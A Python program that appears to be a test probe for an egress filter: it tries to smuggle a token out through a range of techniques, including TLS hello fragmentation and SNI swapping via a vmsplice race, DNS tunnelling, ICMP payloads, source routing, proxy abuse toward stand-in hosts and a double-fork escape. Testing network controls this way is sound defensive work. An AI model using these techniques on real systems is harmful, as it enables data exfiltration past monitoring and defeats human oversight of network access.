# SPDX-License-Identifier: Apache-2.0
"""A program that tries to get a token out. Prints what happened: "sent", or the error's name and the milliseconds it took."""
import os
import random
import socket
import ssl
import struct
import sys
import time

MODE, ARGS = sys.argv[1], sys.argv[2:]
TOKEN = ARGS[-1]


def request(host):
    return ("POST /x HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (host, len(TOKEN), TOKEN)).encode()


def dial(addr, port):
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.settimeout(5)
    s.connect((addr, port))
    return s


def pieces(hello, how):
    """The bytes of a first flight, cut as `how` says."""
    if how == "two":
        return [hello[:60], hello[60:]]
    if how == "bytes":
        return [hello[i:i + 1] for i in range(len(hello))]
    if how == "records":
        body, out = hello[5:], []
        for i in range(0, len(body), 20):
            part = body[i:i + 20]
            out.append(hello[:3] + struct.pack("!H", len(part)) + part)
        return [b"".join(out)]
    return [hello]


def tls(addr, sni, how="whole", sock=None):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if how == "big":  # as long as a hello with a post-quantum key share
        ctx.set_alpn_protocols(["%d" % i * 120 for i in range(1, 10)] + ["http/1.1", "x" * 250, "y" * 250])
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = ctx.wrap_bio(into, out, server_hostname=sni or None)
    s = sock or dial(addr, 443)
    first = True

    def flush():
        nonlocal first
        data = out.read()
        if first and data:
            first = False
            if how.startswith("swap "):
                spliced(s.fileno(), data.replace(sni.encode(), how[5:].encode()), data)
            for p in [] if how.startswith("swap ") else pieces(data, how):
                s.send(p)
                if how in ("two", "bytes"):
                    time.sleep(0.002)
        elif data:
            s.sendall(data)

    while True:
        try:
            t.do_handshake()
            break
        except ssl.SSLWantReadError:
            flush()
            data = s.recv(65536)
            if not data:
                raise ConnectionResetError("closed in the handshake")
            into.write(data)
    flush()
    t.write(request(sni or addr))
    flush()
    while True:
        data = s.recv(65536)
        if not data:
            return
        into.write(data)
        try:
            if t.read(65536):
                return
        except ssl.SSLWantReadError:
            pass


def question(name, qtype, ident=None):
    q = struct.pack("!HHHHHH", ident or random.randrange(65536), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)


def optioned(name):
    q = question(name, 1)
    return q[:11] + b"\1" + q[12:] + b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, 4 + len(TOKEN), 65001, len(TOKEN)) + TOKEN.encode()


def spliced(fd, good, evil):
    """Send octets that look good, and are others by the time that somebody receives them: pages that the socket shares."""
    import ctypes
    import mmap
    libc = ctypes.CDLL(None, use_errno=True)
    page = mmap.mmap(-1, 4096)
    page[:len(good)] = good
    iov = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.c_char.from_buffer(page)), len(good))
    r, w = os.pipe()
    if libc.vmsplice(w, iov, ctypes.c_size_t(1), 0) != len(good):
        raise OSError(ctypes.get_errno(), "vmsplice")
    os.splice(r, fd, len(good))
    page[:len(evil)] = evil


def main():
    if MODE == "https":  # host
        tls(socket.getaddrinfo(ARGS[0], 443)[0][4][0], ARGS[0])
    elif MODE == "at":  # address, server name, how
        tls(ARGS[0], ARGS[1] if ARGS[1] != "-" else "", ARGS[2])
    elif MODE == "known-at":  # ask for an allowed name first, then its address with another server name
        addr = socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0]
        tls(addr, ARGS[1] if ARGS[1] != "-" else "", ARGS[2])
    elif MODE == "urgent":  # the beginning of a good hello, sent as urgent data, which a receiver may leave out
        s = dial(socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0], 443)
        s.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + TOKEN.encode().ljust(32), socket.MSG_OOB)
        time.sleep(0.3)
        s.send(b"\0")
        s.recv(100)
    elif MODE == "reconnect":  # half a good hello, then the socket again for another stream that goes on where the first left off
        into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        try:
            ssl.create_default_context().wrap_bio(into, out, server_hostname=ARGS[0]).do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = out.read()
        cut = hello.index(ARGS[0].encode())
        addr = socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0]
        s = dial(addr, 443)
        s.send(hello[:cut])
        time.sleep(0.1)
        import ctypes
        if ctypes.CDLL(None, use_errno=True).connect(s.fileno(), b"\0" * 16, 16):
            raise OSError(ctypes.get_errno(), "disconnect")
        s.connect((addr, 443))
        s.send(hello[cut:] + TOKEN.encode())
        time.sleep(0.5)
        s.recv(100)
        s.recv(100)
    elif MODE == "source-route":  # first hop, destination: a loose source route (RFC 791) puts the hop on the wire
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(0, 4, b"\x83\x07\x04" + socket.inet_aton(ARGS[0]) + b"\x01")
        s.sendto(TOKEN.encode(), (ARGS[1], 9))
    elif MODE == "http":  # host, port
        s = dial(socket.getaddrinfo(ARGS[0], int(ARGS[1]), socket.AF_INET)[0][4][0], int(ARGS[1]))
        s.sendall(request(ARGS[0]))
        s.recv(100)
    elif MODE == "udp":  # address, port
        s = socket.socket(socket.AF_INET6 if ":" in ARGS[0] else socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(TOKEN.encode(), (ARGS[0], int(ARGS[1])))
    elif MODE == "udp-connected":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0], int(ARGS[1])))
        s.send(TOKEN.encode())
    elif MODE == "mapped":  # v4-mapped v6 address
        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect(("::ffff:" + ARGS[0], 80))
        s.sendall(request(ARGS[0]))
        s.recv(100)
    elif MODE == "fastopen":
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.sendto(request(ARGS[0]), 0x20000000, (ARGS[0], 80))
        s.settimeout(5)
        s.recv(100)
    elif MODE == "dns":  # resolver, name, type
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(question(ARGS[1].replace("TOKEN", TOKEN), int(ARGS[2])), (ARGS[0], 53))
        s.recv(2000)
    elif MODE == "dns-tail":  # an allowed question with a token behind it
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(question(ARGS[1], 1) + TOKEN.encode(), (ARGS[0], 53))
    elif MODE == "dns-opt":  # an allowed question with a token in an option that nobody knows
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(optioned(ARGS[1]), (ARGS[0], 53))
    elif MODE == "dns-tcp-opt":
        s = dial(ARGS[0], 53)
        q = optioned(ARGS[1])
        s.sendall(struct.pack("!H", len(q)) + q)
        s.recv(2000)
        s.recv(2000)
    elif MODE == "dns-tcp":
        s = dial(ARGS[0], 53)
        q = question(ARGS[1].replace("TOKEN", TOKEN), 1)
        s.sendall(struct.pack("!H", len(q)) + q)
        s.recv(2000)
    elif MODE == "dns-tcp-tail":  # an allowed question, and octets behind it
        s = dial(ARGS[0], 53)
        q = question(ARGS[1], 1)
        s.sendall(struct.pack("!H", len(q)) + q + TOKEN.encode())
        s.recv(2000)
        s.recv(2000)
    elif MODE == "dns-tcp-split":  # a question in two segments
        s = dial(ARGS[0], 53)
        q = question(ARGS[1].replace("TOKEN", TOKEN), 1)
        s.sendall(struct.pack("!H", len(q)) + q[:12])
        time.sleep(0.05)
        s.sendall(q[12:])
        s.recv(2000)
    elif MODE == "dns-swap":  # resolver, an allowed name, a foreign one of the same length
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((ARGS[0], 53))
        s.settimeout(0.03)
        for i in range(150):
            spliced(s.fileno(), question(ARGS[1], 1, 7), question(ARGS[2].replace("TOKEN", TOKEN), 1, 7))
            try:
                s.recv(2000)
            except TimeoutError:
                pass
    elif MODE == "hello-swap":  # an allowed name, a foreign one at its address and of the same length
        addr = socket.getaddrinfo(ARGS[0], 443, socket.AF_INET)[0][4][0]
        for i in range(20):
            try:
                return tls(addr, ARGS[1], "swap " + ARGS[0])
            except (ConnectionResetError, ssl.SSLError):
                pass
        raise ConnectionAbortedError(103, "every time")
    elif MODE == "proxy":  # host and port to CONNECT to, server name inside
        s = dial(socket.getaddrinfo("proxy.acme.example", 3128, socket.AF_INET)[0][4][0], 3128)
        s.sendall(("CONNECT %s:%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (ARGS[0], ARGS[1], ARGS[0])).encode())
        if not s.recv(200).startswith(b"HTTP/1.1 200"):
            raise ConnectionRefusedError("the proxy says no")
        tls(None, ARGS[2], sock=s)
    elif MODE == "proxy-get":
        s = dial(socket.getaddrinfo("proxy.acme.example", 3128, socket.AF_INET)[0][4][0], 3128)
        s.sendall(("GET http://api.ai-vendor.example/%s HTTP/1.1\r\nHost: api.ai-vendor.example\r\n\r\n" % TOKEN).encode())
        s.recv(200)
    elif MODE == "icmp":
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        p = b"\x08\0\0\0\0\1\0\1" + TOKEN.encode()
        p += b"\0" * (len(p) % 2)
        c = sum(struct.unpack("!%dH" % (len(p) // 2), p))
        c = (c >> 16) + (c & 0xffff)
        s.sendto(p[:2] + struct.pack("!H", ~(c + (c >> 16)) & 0xffff) + p[4:], (ARGS[0], 0))
    elif MODE == "double-fork":  # a grandchild with a session of its own does it
        if os.fork():
            os.wait()
            time.sleep(1)
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        os.setuid(65534)
        os.execv(sys.executable, [sys.executable, __file__, "at", ARGS[0], "api.ai-vendor.example", "whole", TOKEN])
    elif MODE == "loopback":
        s = dial(ARGS[0], int(ARGS[1]))
        s.sendall(TOKEN.encode())
        s.recv(10)
    elif MODE == "listen":
        s = socket.socket()
        s.bind(("0.0.0.0", int(ARGS[0])))
        s.listen()
        s.settimeout(3)
        c, _ = s.accept()
        c.sendall(TOKEN.encode())
    else:
        raise SystemExit("no mode " + MODE)


started = time.time()
try:
    main()
    print("sent")
except OSError as e:
    import errno
    print("%s %.0fms" % (errno.errorcode.get(e.errno, type(e).__name__), (time.time() - started) * 1000))
    sys.exit(1)
